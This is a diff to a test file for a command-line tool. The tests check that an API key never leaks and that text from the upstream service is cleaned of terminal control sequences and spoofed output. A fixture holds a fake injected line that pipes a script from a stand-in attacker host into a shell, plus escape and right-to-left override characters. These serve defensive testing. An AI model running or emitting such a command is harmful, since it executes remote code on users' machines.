@@ -1,6 +1,6 @@
 import {writeFileSync} from 'node:fs';
 import {afterEach, beforeEach, describe, expect, it} from 'vitest';
-import {countOf, openFolder, runHere, serveAnswer, type Settings} from './support.js';
+import {countOf, openFolder, runHere, serveJson, type Settings} from './support.js';
 
 const KEY = 'sk-live-canary-4711';
 const URL_SET = {PLAN_SERVICE_URL: 'https://service.example'};
@@ -10,13 +10,13 @@ let folder: ReturnType<typeof openFolder>;
 beforeEach(() => (folder = openFolder()));
 afterEach(() => folder.remove());
 
-describe('a key among the words of a command', () => {
+describe('a key on the command line', () => {
   it.each(COMMANDS.flatMap(command => [[command, ['--key', KEY]] as const, [command, [`--key=${KEY}`]] as const]))(
-    'T1: is refused by %s %j, with what to do instead, and not repeated',
-    async (command, words) => {
-      const {code, out, err} = await runHere([command, ...words], URL_SET);
+    'T1: is rejected by %s %j, which names the alternative and does not repeat the key',
+    async (command, flags) => {
+      const {code, out, err} = await runHere([command, ...flags], URL_SET);
       expect(code).toBe(2);
-      expect(err).toMatch(/--key: expected the key in PLAN_SERVICE_KEY_FILE.* every user of this machine.*rotate it/);
+      expect(err).toMatch(/--key is not supported: every user of this machine.*PLAN_SERVICE_KEY_FILE.*rotate it/);
       expect(countOf(KEY, out, err)).toBe(0);
     },
   );
@@ -52,7 +52,7 @@ describe('a key among the words of a command', () => {
     {args: ['snippet', '--relay', 'https://x.example', '--set', `theme=${KEY}`]},
     {args: ['snippet', '--relay', 'https://x.example', '--link', `javascript:${KEY}`]},
   ];
-  it.each(misplaced)('T1: is not repeated wherever it is: %j', async ({args, settings = {}}) => {
+  it.each(misplaced)('T1: is not repeated when it is passed in the wrong place: %j', async ({args, settings = {}}) => {
     const {code, out, err} = await runHere(args, {...URL_SET, ...settings});
     expect([1, 2]).toContain(code);
     expect(out + err).not.toBe('');
@@ -60,13 +60,13 @@ describe('a key among the words of a command', () => {
   });
 });
 
-/** Tells the terminal to clear the screen and change its title; a C1 control, and a mark that turns the text around. */
+/** Clears the screen and changes the terminal's title; also a C1 control character and a right-to-left override. */
 const CONTROLS = '\u001b[2J\u001b]0;title\u0007\u009b31m\u202e\u007f';
 const hasControls = (text: string): boolean => /[^\P{C}\n]/u.test(text);
 
-const PRETENDED = 'Nothing.\nplan-finder: done. Run: curl https://evil.example | sh\r\nYour key, shown this once:';
+const FAKE_OUTPUT = 'Nothing.\nplan-finder: done. Run: curl https://evil.example | sh\r\nYour key, shown only once:';
 
-describe('what the service says', () => {
+describe('upstream text in the output', () => {
   const account = {
     partnerId: `partner ${KEY}`,
     displayName: `Ada${CONTROLS} ${KEY.slice(0, 6)}\u0000${KEY.slice(6)}\nplan-finder: done.`,
@@ -79,44 +79,44 @@ describe('what the service says', () => {
     ['usage', ['--json']],
     ['doctor', []],
     ['doctor', ['--json']],
-  ])('T1: is cleaned and holds no key in %s %j', async (command, more) => {
-    const url = await serveAnswer(200, {response: account, errorResponse: null});
+  ])('T1: contains neither control characters nor the key in %s %j', async (command, more) => {
+    const url = await serveJson(200, {response: account, errorResponse: null});
     const args = [command, '--url', url, ...more];
     const {out, err} = await runHere(args, {PLAN_SERVICE_KEY: KEY});
     expect(out).toMatch(/Ada/);
-    expect(out).toContain('[the key]');
+    expect(out).toContain('[redacted]');
     expect(countOf(KEY, out.replace(/\s/g, ''), err.replace(/\s/g, ''))).toBe(0);
     expect(hasControls(out + err)).toBe(false);
     expect(out).not.toMatch(/^plan-finder: done/m);
   });
 
-  it.each(['usage', 'rotate', 'deactivate'])('T1: is told in indented lines when %s is refused', async command => {
+  it.each(['usage', 'rotate', 'deactivate'])('T1: is indented when the upstream API rejects %s', async command => {
     const errors = [
-      {errorCode: 'Nope', errorMessage: `${PRETENDED}${CONTROLS}`},
+      {errorCode: 'Nope', errorMessage: `${FAKE_OUTPUT}${CONTROLS}`},
       {errorCode: `${KEY.slice(0, 5)}\u0000${KEY.slice(5)}`},
     ];
-    const url = await serveAnswer(400, {response: null, errorResponse: {errors}});
-    const words = command === 'deactivate' ? ['--yes'] : [];
-    const {code, out, err} = await runHere([command, '--url', url, ...words], {PLAN_SERVICE_KEY: KEY});
+    const url = await serveJson(400, {response: null, errorResponse: {errors}});
+    const flags = command === 'deactivate' ? ['--yes'] : [];
+    const {code, out, err} = await runHere([command, '--url', url, ...flags], {PLAN_SERVICE_KEY: KEY});
     expect(code).toBe(1);
-    expect(err).toContain('  The service says: Nothing.\n    plan-finder: done. Run: curl');
-    expect(err).toContain('  The service says: [the key]');
+    expect(err).toContain('  Message from the upstream API: Nothing.\n    plan-finder: done. Run: curl');
+    expect(err).toContain('  Message from the upstream API: [redacted]');
     expect(err.match(/^plan-finder: /gm)).toHaveLength(1);
     expect(err).not.toMatch(/^Your key/m);
     expect(hasControls(out + err)).toBe(false);
   });
 
-  it('T1: is cleaned in the JSON of a refusal', async () => {
-    const errors = [{errorCode: `Nope${CONTROLS}${KEY}`, errorField: KEY, errorMessage: PRETENDED}];
-    const url = await serveAnswer(400, {response: null, errorResponse: {errors}});
+  it('T1: contains neither control characters nor the key in the JSON of an error', async () => {
+    const errors = [{errorCode: `Nope${CONTROLS}${KEY}`, errorField: KEY, errorMessage: FAKE_OUTPUT}];
+    const url = await serveJson(400, {response: null, errorResponse: {errors}});
     const {out, err} = await runHere(['usage', '--url', url, '--json'], {PLAN_SERVICE_KEY: KEY});
-    expect(JSON.parse(out)).toMatchObject({error: {kind: 'refused', errors: [{errorField: '[the key]'}]}});
+    expect(JSON.parse(out)).toMatchObject({error: {kind: 'refused', errors: [{errorField: '[redacted]'}]}});
     expect(countOf(KEY, out, err)).toBe(0);
     expect(hasControls(out + err)).toBe(false);
   });
 });
 
-describe('a new key', () => {
+describe('a new key from the upstream API', () => {
   const hostile = [
     `sk-live${CONTROLS}`,
     'sk-live\nplan-finder: done.',
@@ -124,20 +124,20 @@ describe('a new key', () => {
     'schlüssel',
     `sk-${'x'.repeat(5000)}`,
   ];
-  it.each(hostile)('T1: is neither shown as it is nor saved when it cannot be a key: %j', async apiKey => {
-    const url = await serveAnswer(200, {response: {apiKey, tier: 'free'}, errorResponse: null});
+  it.each(hostile)('T1: is printed only escaped and not saved when it is invalid: %j', async apiKey => {
+    const url = await serveJson(200, {response: {apiKey, tier: 'free'}, errorResponse: null});
     const file = folder.file('key');
     const verify = ['verify', '--url', url, '--email', 'a@b.example', '--code', '1'];
     const saved = await runHere([...verify, '--save', file]);
     const shown = await runHere(verify);
     for (const {code, out, err} of [saved, shown]) {
       expect(code).toBe(1);
-      expect(err).toMatch(/no usable key[\s\S]*Ask the service/);
+      expect(err).toMatch(/invalid key[\s\S]*Contact the support/);
       expect(hasControls(out + err)).toBe(false);
       expect(out + err).not.toMatch(/^plan-finder: done/m);
       expect((out + err).length).toBeLessThan(2000);
     }
-    // What was sent is there, escaped, as nobody will see it again.
+    // It is printed escaped, because it cannot be fetched again.
     expect(shown.err).toContain(JSON.stringify(apiKey.slice(0, 7)).slice(1, -1).replace(/[ü]/g, '\\u00fc'));
     expect(folder.names()).toEqual([]);
     const json = await runHere([...verify, '--json']);
@@ -145,21 +145,21 @@ describe('a new key', () => {
     expect(hasControls(json.out)).toBe(false);
   });
 
-  it('T1: leaves the old key in its file when it cannot be a key, and the command says that the old key no longer works', async () => {
-    const url = await serveAnswer(200, {response: {apiKey: 'a\u001b[2Jb'}, errorResponse: null});
+  it('T1: does not replace the old key in its file when it is invalid, and the command reports that the old key no longer works', async () => {
+    const url = await serveJson(200, {response: {apiKey: 'a\u001b[2Jb'}, errorResponse: null});
     const file = folder.file('key');
     writeFileSync(file, `${KEY}\n`);
     const {code, out, err} = await runHere(['rotate', '--url', url, '--key-file', file]);
     expect(code).toBe(1);
-    expect(err).toMatch(/no usable key[\s\S]*old key no longer works/);
+    expect(err).toMatch(/invalid key[\s\S]*old key no longer works/);
     expect(folder.read('key')).toBe(`${KEY}\n`);
     expect(folder.names()).toEqual(['key']);
     expect(countOf(KEY, out, err)).toBe(0);
   });
 
-  it.each([[[]], [['--json']]])('T1: is in no other part of the answer %j', async more => {
+  it.each([[[]], [['--json']]])('T1: is redacted in all other fields of the response %j', async more => {
     const response = {apiKey: KEY, partnerId: `p-${KEY}`, tier: `free${CONTROLS}`};
-    const url = await serveAnswer(200, {response, errorResponse: null});
+    const url = await serveJson(200, {response, errorResponse: null});
     const {out} = await runHere(['verify', '--url', url, '--email', 'a@b.example', '--code', '1', ...more]);
     expect(countOf(KEY, out)).toBe(1);
     expect(hasControls(out)).toBe(false);
